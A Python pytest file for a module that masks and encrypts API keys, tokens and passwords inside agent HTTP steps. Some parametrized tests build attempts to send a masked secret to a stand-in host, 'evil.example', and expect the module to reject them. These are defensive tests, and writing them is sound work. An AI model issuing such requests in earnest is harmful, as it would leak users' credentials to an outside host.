"""Secrets in steps: a mask in their place, the value apart and encrypted."""

from __future__ import annotations

import re
from typing import Any

import pytest

from agents import blueprint, sealing
from agents.models import Agent
from config.lib import json
from config.lib.secrets import redact_text
from crm.models import Workspace

KEY = "Bearer canary-5f1e77aa90"
URL = "https://api.example.org/hook?api_key=canary-query-1234&q=@contact.email"


def request(**params: Any) -> dict[str, Any]:
    given = {"url": URL, "headers": {"Authorization": KEY, "Accept": "text/plain"}, **params}
    return {"action": "http_request", "params": given}


def sealed(*steps: dict[str, Any], held: str = "") -> tuple[list[dict[str, Any]], str]:
    assert not sealing.problems(list(steps), sealed=held)
    return sealing.seal(list(steps), sealed=held)


def test_secrets_are_masked_and_opened_again() -> None:
    steps = [request(method="POST", json={"user": {"password": "canary-pw"}, "name": "Ann"})]
    masked, kept = sealed(*steps)
    text = json.dumps([masked, kept]).decode()
    assert "canary" not in text
    params = masked[0]["params"]
    assert re.fullmatch(r"\[secret:[0-9a-f]{8}…aa90\]", params["headers"]["Authorization"])
    assert params["headers"]["Accept"] == "text/plain"
    assert re.search(r"api_key=\[secret:[0-9a-f]{8}…1234\]&q=@contact\.email$", params["url"])
    assert params["json"]["name"] == "Ann"
    assert re.fullmatch(r"\[secret:[0-9a-f]{8}\]", params["json"]["user"]["password"])
    again, known = sealing.opened(masked, sealed=kept)
    assert again == steps
    assert {"canary-5f1e77aa90", KEY, "canary-query-1234", "canary-pw"} == set(known)


def test_the_token_of_a_telegram_bot_is_one() -> None:
    token = "110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"
    url = f"https://api.telegram.org/bot{token}/getFile?file_id=@inputs.file_id"
    step = {"action": "http_request", "params": {"url": url, "json": {"file_url": f"{url}&a=b"}}}
    masked, kept = sealed(step)
    assert token not in json.dumps([masked, kept]).decode()
    assert re.search(r"/bot\[secret:[^\]]+\]/getFile\?file_id=@inputs", masked[0]["params"]["url"])
    again, known = sealing.opened(masked, sealed=kept)
    assert again == [step]
    assert set(known) == {token}
    assert token not in redact_text(f"GET {url} failed")


def test_a_mask_that_is_sent_back_keeps_its_secret() -> None:
    masked, kept = sealed(request())
    same, still = sealed({"action": "wait", "params": {"days": 1}}, *masked, held=kept)
    assert same[1] == masked[0]
    assert sealing.opened(same, sealed=still)[0][1] == request()


def test_a_secret_that_is_given_again_keeps_its_mask() -> None:
    masked, kept = sealed(request())
    assert sealed(request(), held=kept)[0] == masked


def test_text_around_a_mask_may_change() -> None:
    masked, kept = sealed(request())
    params = masked[0]["params"]
    changed = request(headers={"Authorization": "X" + params["headers"]["Authorization"]})
    again, held = sealed(changed, held=kept)
    assert sealing.opened(again, sealed=held)[0][0]["params"]["headers"] == {
        "Authorization": "X" + KEY
    }


def test_what_is_no_longer_used_is_forgotten() -> None:
    _, kept = sealed(request())
    masked, held = sealed({"action": "wait", "params": {"days": 1}}, held=kept)
    assert (masked, held) == ([{"action": "wait", "params": {"days": 1}}], "")


@pytest.mark.parametrize(
    "move",
    [
        lambda mask: request(url="https://evil.example/hook", headers={"Authorization": mask}),
        lambda mask: request(headers={"X-Api-Key": mask}),
        lambda mask: {"action": "create_note", "params": {"text": f"see {mask}"}},
        lambda mask: {"action": "emit_event", "params": {"payload": {"token": mask}}},
        lambda mask: request(headers={"X-Plain": mask}),
        lambda mask: request(url=f"https://api.example.org/?token={mask}"),
        lambda mask: request(url=f"https://api.example.org/{mask}"),
    ],
)
def test_a_secret_cannot_be_sent_elsewhere(move: Any) -> None:
    masked, kept = sealed(request())
    mask = masked[0]["params"]["headers"]["Authorization"]
    found = sealing.problems([move(mask)], sealed=kept)
    assert [message for messages in found.values() for message in messages]
    assert all(path.startswith("steps[0].params.") for path in found)


def test_a_mask_of_another_agent_stands_for_nothing() -> None:
    masked, _ = sealed(request())
    assert sealing.problems(masked, sealed="").keys() == {
        "steps[0].params.headers.Authorization",
        "steps[0].params.url",
    }


@pytest.mark.parametrize(
    "params",
    [
        {"headers": {"Authorization": "Bearer @inputs.token"}},
        {"headers": {"Authorization": "@inputs.token"}},
        {"headers": {"Idempotency-Key": "order-@deal.id"}},
        {"headers": {"Content-Type": "text/csv"}},
        {"url": "https://api.example.org/?token=@inputs.token&author=ann"},
        {"json": {"token": "", "api_key": None, "count": 3}},
    ],
)
def test_what_is_no_secret_stays_readable(params: dict[str, Any]) -> None:
    step = {"action": "http_request", "params": params}
    assert sealed(step) == ([step], "")


def test_stored_by_the_blueprint(acme: Workspace) -> None:
    agent = blueprint.store(Agent(workspace=acme), {"name": "A", "steps": [request()]})
    stored = Agent.objects.get()
    assert "canary" not in json.dumps([stored.steps, stored.sealed]).decode()
    blueprint.store(stored, {"steps": stored.steps})
    assert Agent.objects.get().version == agent.version == 1
    blueprint.store(stored, {"steps": [request(headers={"Authorization": "Bearer canary-other"})]})
    stored = Agent.objects.get()
    assert stored.version == 2
    (step,), _ = sealing.opened(stored.steps, sealed=stored.sealed)
    assert step["params"]["headers"] == {"Authorization": "Bearer canary-other"}
    with pytest.raises(blueprint.InvalidAgent, match="Give the secret itself"):
        blueprint.store(
            stored,
            {
                "steps": [
                    {
                        **request(),
                        "params": {
                            "url": "https://evil.example/?token="
                            + stored.steps[0]["params"]["headers"]["Authorization"]
                        },
                    }
                ]
            },
        )
